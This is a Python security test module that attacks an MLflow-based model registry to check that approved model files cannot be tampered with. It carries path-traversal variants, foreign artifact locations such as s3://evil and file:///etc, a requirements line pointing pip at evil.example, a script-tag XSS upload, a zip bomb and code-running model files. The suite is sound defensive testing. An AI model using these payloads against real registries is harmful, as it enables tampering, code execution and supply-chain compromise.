"""Changing what was registered or approved: overwriting, climbing, places elsewhere, decoys, disks, hostile models."""

from __future__ import annotations

import shutil
import time
import zipfile
from io import BytesIO
from pathlib import Path
from tempfile import gettempdir

import play
from hostile_models import HOSTILE, LIGHTGBM

from siege.client import AJAX, API, ARTIFACTS, Version
from siege.kit import HELD, Field, attack, harm, new_name, new_number

KEPT = "bytes of registered versions"
PLACES = "hostile uploads and places"
ROUTES = (ARTIFACTS, "/ajax-api/2.0/mlflow-artifacts/artifacts")
SPELLED = {
    "as it is": lambda place: place,
    "a new file": lambda place: place.replace("data/twin.json", "new.txt"),
    "two slashes": lambda place: place.replace("/data", "//data"),
    "a dot": lambda place: place.replace("/data", "/./data"),
    "up and down": lambda place: place.replace("/data/", "/data/%2e%2e/data/"),
    "through another folder": lambda place: place.replace("/model/", "/other/%2e%2e/model/"),
    "coded slashes": lambda place: place.replace("/", "%2f"),
    "a coded letter": lambda place: place.replace("data", "%64ata"),
    "twice coded": lambda place: place.replace("data", "%2564ata"),
}


def _victim(here: Field) -> Version:
    """On a stock server a version of its own: what is produced must stay whole for the others."""
    return here.produced if here.governed else here.at.registered(new_number(), name=new_name("bytes"))


def _whole(here: Field, version: Version, what: str = "the bytes changed") -> None:
    now = here.at.bytes_at(f"{version.place}/data/twin.json")
    harm(now != version.files["data/twin.json"], what)
    shown = here.at.call("GET", f"{ARTIFACTS}?path={version.place}", who="scientist").json.get("files", [])
    names = {Path(f["path"]).name for f in shown}
    harm(names != {"MLmodel", "data"}, f"there is now {sorted(names)}")


@attack(KEPT, "a registered file is overwritten, or one put beside it, by any spelling of its place",
        cases=[(spelled, who) for spelled in SPELLED for who in ("scientist", "admin")], stored=True)  # fmt: skip
def overwritten(here: Field, case: tuple[str, str]) -> None:
    spelled, who = case
    version = _victim(here)
    place = SPELLED[spelled](f"{version.place}/data/twin.json")
    for route in ROUTES:
        answer = here.at.call("PUT", f"{route}/{place}", b"{}", who=who)
        if spelled == "as it is":
            here.sentence(answer)
    _whole(here, version)


@attack(KEPT, "a registered file or a folder above it is removed", cases=["scientist", "admin"], stored=True)
def removed(here: Field, who: str) -> None:
    version = _victim(here)
    place = f"{version.place}/data/twin.json"
    for path in (version.place, place, version.place.rpartition("/")[0], version.place.split("/")[0]):
        if here.governed or path in (place, version.place):  # not the whole experiment of a stock server
            here.refused(here.at.call("DELETE", f"{ARTIFACTS}/{path}", who=who))
    _whole(here, version)


@attack(KEPT, "a registered file is written through parts, presigned places or MLflow's own upload route",
        cases=["scientist", "admin"], stored=True)  # fmt: skip
def other_uploads(here: Field, who: str) -> None:
    at, version = here.at, _victim(here)
    place = f"{version.place}/data"
    for base in ("/api/2.0/mlflow-artifacts", "/ajax-api/2.0/mlflow-artifacts"):
        for what in ("create", "complete", "abort"):
            told = {"path": "twin.json", "num_parts": 1, "upload_id": "x", "parts": []}
            answer = at.call("POST", f"{base}/mpu/{what}/{place}", told, who=who)
            harm(here.governed and answer.status < 400, f"{what}: {answer.status}")
        for method in ("GET", "POST", "PUT"):
            where = f"{base}/presigned/{place}/twin.json"
            answer = at.call(method, where, {} if method != "GET" else None, who=who)
            harm(answer.status < 400 and b"sig" in answer.body.lower(), "a presigned place was given")
    where = f"name={version.name}&version={version.version}&path=data/twin.json&presigned=true"
    answer = at.call("GET", f"/model-versions/get-artifact?{where}", who=who)
    harm(b"ignature" in answer.body, "a presigned place was given")
    for what in ("upload", "download"):
        told = {"run_id": version.run, "path": "model/data/twin.json"}
        answer = at.call("POST", f"{API}/artifacts/presigned-{what}-url", told, who=who)
        harm(answer.status < 400 or b"ignature" in answer.body, "a presigned place was given")
    upload = f"{AJAX}/upload-artifact?run_uuid={version.run}&path=model/data/twin.json"
    here.refused(at.call("POST", upload, b"{}", who=who, Content_Type="application/json"))
    _whole(here, version)


CLIMBING = ("../../../../twin.json", "../../../{place}/twin.json", "%2e%2e/%2e%2e/twin.json", "/etc/x", "..%5c..%5cx")


@attack(PLACES, "an upload climbs out of its run", cases=CLIMBING, stock=HELD, stored=True)
def climbing(here: Field, path: str) -> None:
    version = _victim(here)
    run = here.at.uploaded(new_number()).run
    to = path.format(place=f"{version.place}/data")
    where = f"{AJAX}/upload-artifact?run_uuid={run}&path={to}"
    answer = here.at.call("POST", where, b"{}", who="scientist", Content_Type="application/json")
    if path != "..%5c..%5cx":  # a file name with backslashes, below its run
        here.refused(answer)
    _whole(here, version)


@attack(
    KEPT,
    "somebody uploads to the approved copies",
    needs="judges",
    stock="not applicable",
    cases=["scientist", "admin"],
    stored=True,
)
def approved_copies(here: Field, who: str) -> None:
    at = here.at
    given = at.call("GET", f"/twinops/api/pass?name={play.MODEL}&alias=production", who="scientist").json
    here.refused(at.put(f"{given['place']}/data/twin.json", b"{}", who=who))
    here.refused(at.call("DELETE", f"{ARTIFACTS}/{given['place']}", who=who))
    harm(at.bytes_at(f"{given['place']}/data/twin.json") != here.produced.files["data/twin.json"], "the copy changed")


@attack(KEPT, "an upload that began before the registration lands after it", stored=True)
def slow_upload(here: Field) -> None:
    at, version = here.at, here.at.uploaded(new_number())
    with at.connected() as slow:
        head = (
            f"PUT {ARTIFACTS}/{version.place}/data/twin.json HTTP/1.1",
            f"Host: {at.address.partition('://')[2]}",
            f"Authorization: {at.login('scientist')}",
            "Content-Length: 2",
            "Connection: close",
        )
        slow.sendall("\r\n".join(head).encode() + b"\r\n\r\n{")
        time.sleep(0.5)
        at.register(version)
        slow.sendall(b"}")
        answer = slow.recv(65536).decode()
    harm(here.governed and " 403 " not in answer.splitlines()[0], answer)
    harm(here.governed and at.shown(version)["problems"] != [], "the version has problems")
    _whole(here, version)


SOURCES = (
    "runs:/{run}/model", "s3://evil/model", "file:///etc", "/etc", "https://example.org/model",
    "mlflow-artifacts:/{place}/../../x", "mlflow-artifacts:/twinops-approved/x", "models:/m-0123456789",
    "mlflow-artifacts://127.0.0.1:9/{place}", "dbfs:/x", "mlflow-artifacts:/{place}?x=1", "mlflow-artifacts:/",
)  # fmt: skip


@attack(PLACES, "a version is registered whose bytes are not this server's", cases=SOURCES, stored=True)
def foreign_sources(here: Field, source: str) -> None:
    version = here.at.uploaded(new_number(), name=new_name("foreign"))
    here.at.call("POST", f"{API}/registered-models/create", {"name": version.name}, who="scientist")
    told = source.format(run=version.run, place=version.place)
    body = {"name": version.name, "source": told, "run_id": version.run}
    answer = here.refused(here.at.call("POST", f"{API}/model-versions/create", body, who="scientist"))
    if answer.status == 200:
        version.version = int(answer.json["model_version"]["version"])
        here.at.alias(version)
    harm(here.at.in_production(version.name) is not None, f"{told} is production")


@attack(PLACES, "an experiment keeps its artifacts outside the server's store", cases=[
    "s3://elsewhere/x", "gs://elsewhere/x", "dbfs:/x", "wasbs://a@b/x", "file:///etc", "file://{tmp}/siege-{name}",
    "{tmp}/siege-{name}", "../siege-{name}", "mlflow-artifacts:/../{name}", "mlflow-artifacts:/twinops-approved/{name}",
    "models:/twin/1", "uc:/x", "http://127.0.0.1:9/x", "mlflow-artifacts://127.0.0.1:9/x",
], stored=True, large=True)  # fmt: skip
def foreign_places(here: Field, place: str) -> None:
    at, name = here.at, new_name("elsewhere")
    told = {"name": name, "artifact_location": place.format(name=name, tmp=gettempdir())}
    made = at.call("POST", f"{API}/experiments/create", told, who="scientist")
    if made.status != 200:
        return
    run = at.call("POST", f"{API}/runs/create", {"experiment_id": made.json["experiment_id"]}, who="scientist")
    if run.status == 200:
        found = run.json["run"]["info"]["run_id"]
        read = at.call("GET", f"{API}/artifacts/list?run_id={found}", who="scientist")
        where = f"{AJAX}/upload-artifact?run_uuid={found}&path=x.json"
        write = at.call("POST", where, b"{}", who="scientist", Content_Type="application/json")
        written = [p for p in (Path(gettempdir(), f"siege-{name}"), Path(f"../siege-{name}")) if p.exists()]
        for folder in written:
            shutil.rmtree(folder)
        harm(bool(written), f"the server wrote to {written}")
        harm(not (read.refused and write.refused), "the server goes to that place with its own rights")


@attack(PLACES, "a picture or page that somebody uploaded runs in an officer's browser", stock=HELD,
        cases=["page.html", "page.svg", "page.xhtml", "page.xml", "page.pdf", "page.htm"])  # fmt: skip
def uploaded_page(here: Field, name: str) -> None:
    at, version = here.at, here.at.uploaded(new_number())
    at.put(f"{version.place}/{name}", b"<script>alert(1)</script>", who="scientist")
    for where in (
        *(f"{r}/{version.place}/{name}" for r in ROUTES),
        f"/get-artifact?run_uuid={version.run}&path=model/{name}",
    ):
        told = {k.lower(): v for k, v in at.call("GET", where, who="scientist").headers.items()}
        policy = told.get("content-security-policy", "")
        inert = "attachment" in told.get("content-disposition", "") or "sandbox" in policy
        harm(not inert and told.get("content-type", "") not in ("text/plain", ""), f"{where} is shown as {told}")
        harm(told.get("x-content-type-options") != "nosniff", "browsers guess what it is")


@attack(KEPT, "bytes are changed on the disk", needs="disk judges", stock="not applicable", stored=True)
def changed_disk(here: Field) -> None:
    at, name = here.at, new_name("tampered")
    version = at.approved(new_number(), name=name)
    assert at.alias(version).status == 200
    given = at.call("GET", f"/twinops/api/pass?name={name}&alias=production", who="scientist").json
    at.change(f"approved/{given['digest']}/data/twin.json", b"{}")  # type: ignore[attr-defined]
    here.sentence(at.resolved(name), "bytes changed")
    where = f"{API}/model-versions/get-download-uri?name={name}&version=1"
    here.sentence(at.call("GET", where, who="scientist"), "bytes changed")
    harm(at.in_production(name) is not None, "changed bytes are served")


@attack(KEPT, "uploaded bytes are changed where they lie, before anybody decides", needs="disk judges",
        stock="not applicable", stored=True)  # fmt: skip
def changed_upload(here: Field) -> None:
    at, name = here.at, new_name("swapped-below")
    version = at.registered(new_number(), name=name)
    assert at.judged(version).status == 200
    at.change(f"mlruns/{version.place}/data/twin.json", b"{}")  # type: ignore[attr-defined]
    harm(at.shown(version)["problems"] == [], "the page does not tell")
    here.sentence(at.decided("approve", version), "bytes changed")
    where = f"{API}/model-versions/get-download-uri?name={name}&version=1"
    here.sentence(at.call("GET", where, who="scientist"), "bytes changed")
    harm(at.alias(version).status == 200, "changed bytes were promoted")


DECOYS = {
    "a second model": ("data/other.json", "twin"),
    "another model named by MLmodel": ("weights/twin.json", "MLmodel"),
    "requirements of another index": ("requirements.txt", "--index-url http://evil.example/simple\ntwinops==9\n"),
    "a file nobody needs": ("notes.bin", "x"),
    "a half upload": (".artifact.uploading.1", "x"),
}


@attack(PLACES, "a version holds more than its flavour needs, or its description names another file", needs="judges",
        cases=list(DECOYS), stock="not applicable", stored=True, large=True)  # fmt: skip
def decoy(here: Field, case: str) -> None:
    at, number = here.at, new_number()
    path, content = DECOYS[case]
    files = play.model_files(number)
    other = play.model_files(new_number())["data/twin.json"]
    files[path] = other if path.endswith(".json") else content.encode()
    if content == "MLmodel":
        files["MLmodel"] = files["MLmodel"].replace(b"data: data/twin.json", f"data: {path}".encode())
    hidden = path.startswith(".")
    version = at.uploaded(number, name=new_name("decoy"), files={} if hidden else files)
    if hidden:
        version.files = play.model_files(number)
        taken = {name: at.put(f"{version.place}/{name}", held, who="scientist").status for name, held in files.items()}
        if taken[path] >= 400:
            return
    if at.try_register(version).status != 200:
        return
    at.judged(version)
    at.decided("approve", version)
    harm(at.alias(version).status == 200, f"{path} was not judged and is served with the model")


def zipped() -> bytes:
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros", b"\0" * 50_000_000)
    return held.getvalue()


def hostile() -> dict[str, dict[str, bytes]]:
    """What is uploaded beside the play's own files, by what it is."""
    evil = b"import pathlib; pathlib.Path('ran').write_text('x')\n"
    bombs = ("model.zip", "model.parquet", "model.skops", "model.pkl")
    described = {n: {"MLmodel": t.encode(), "evil.py": evil, "code/evil.py": evil} for n, t in HOSTILE.items()}
    told = {name: play.MLMODEL.replace("data/twin.json", name).encode() for name in bombs}
    damaged = b"tree\nnum_leaves=-9999999999\nsplit_gain="
    return {
        **described,
        **{name: {"MLmodel": told[name], name: zipped()} for name in bombs},
        "damaged LightGBM text": {"MLmodel": LIGHTGBM.encode(), "model.lgb": damaged},
        "deep JSON": {"data/twin.json": b"[" * 200_000},
    }


@attack(PLACES, "a model is uploaded that runs code, eats memory or does not load", needs="judges",
        stock="not applicable",
        cases=[*HOSTILE, "model.zip", "model.parquet", "model.skops", "model.pkl", "damaged LightGBM text",
               "deep JSON"])  # fmt: skip
def hostile_model(here: Field, name: str) -> None:
    from siege.load import resident

    at, before = here.at, resident(here.at)
    files = {**play.model_files(1), **hostile()[name]}
    version = at.uploaded(1, name=new_name("hostile"), files=files)
    made = at.try_register(version)
    harm(made.status >= 500, f"registering answered {made.status}")
    if made.status == 200:
        harm(at.judged(version).status >= 500, "evidence on it answered 5xx")
        decided = at.decided("approve", version)
        harm(decided.status >= 500, "deciding answered 5xx")
        here.refused(decided)
        here.sentence(at.alias(version))
        harm(at.in_production(version.name) is not None, "it was promoted")
        where = f"/twinops/review?name={version.name}&version={version.version}"
        harm(at.call("GET", where, who="risk-officer").status != 200, "its page does not open")
    harm(at.root is not None and (at.root / "ran").exists(), "code of the upload ran on the server")
    harm(resident(at) - before > 300_000_000, "the server's memory grew by more than 300 MB")


@attack(KEPT, "a run or logged model behind a judged version is edited or deleted by a scientist",
        cases=["parameter", "tag", "run", "experiment", "logged model", "logged model's tag"], large=True)  # fmt: skip
def edited_run(here: Field, case: str) -> None:
    at, name = here.at, new_name("edited")
    place = at.post(f"{API}/experiments/create", {"name": name}, who="scientist").json["experiment_id"]
    run = at.post(f"{API}/runs/create", {"experiment_id": place}, who="scientist").json["run"]["info"]
    told = {"experiment_id": place, "name": "y", "source_run_id": run["run_id"]}
    model = at.post(f"{API}/logged-models", told, who="scientist").json["model"]["info"]
    within = model["artifact_uri"] if case.startswith("logged") else run["artifact_uri"] + "/model"
    within = within.removeprefix("mlflow-artifacts:/").strip("/")
    version = Version(name, 0, run["run_id"], within, play.model_files(new_number()))
    for path, content in version.files.items():
        assert at.put(f"{within}/{path}", content, who="scientist").status == 200
    if case.startswith("logged"):
        made = at.try_register(version, source=f"models:/{model['model_id']}", model_id=model["model_id"])
    else:
        made = at.try_register(version)
    assert made.status == 200, made.body
    if here.governed:
        assert at.judged(version).status == 200
    commit = {"key": "mlflow.source.git.commit", "value": "0" * 40}
    method, path, body = {
        "parameter": ("POST", "runs/log-parameter", {"run_id": version.run, "key": "lr", "value": "1"}),
        "tag": ("POST", "runs/set-tag", {"run_id": version.run, **commit}),
        "run": ("POST", "runs/delete", {"run_id": version.run}),
        "experiment": ("POST", "experiments/delete", {"experiment_id": place}),
        "logged model": ("DELETE", f"logged-models/{model['model_id']}", None),
        "logged model's tag": ("PATCH", f"logged-models/{model['model_id']}/tags", {"tags": [commit]}),
    }[case]
    answer = at.call(method, f"{API}/{path}", body, who="scientist")
    harm(answer.status == 200, f"the {case} of a judged version was changed")


@attack(
    KEPT,
    "an administrator deletes the run or logged model behind production",
    cases=["run", "logged model"],
    large=True,
)
def metadata_deleted(here: Field, case: str) -> None:
    at = here.at
    version = at.uploaded(new_number(), name=new_name("bereft"))
    told = {"experiment_id": at.experiment("scientist"), "name": "y", "source_run_id": version.run}
    model = at.post(f"{API}/logged-models", told, who="scientist").json["model"]["info"]["model_id"]
    at.register(version)
    if here.governed:
        assert at.judged(version).status == 200
        assert at.decided("approve", version).status == 200
    assert at.alias(version).status == 200
    if case == "run":
        here.sentence(at.call("POST", f"{API}/runs/delete", {"run_id": version.run}, who="admin"))
        found = at.call("GET", f"{API}/runs/get?run_id={version.run}", who="scientist")
        harm(found.json["run"]["info"]["lifecycle_stage"] != "active", "it is deleted")
    else:
        here.sentence(at.call("DELETE", f"{API}/logged-models/{model}", who="admin"))
        harm(at.call("GET", f"{API}/logged-models/{model}", who="scientist").status != 200, "it is deleted")
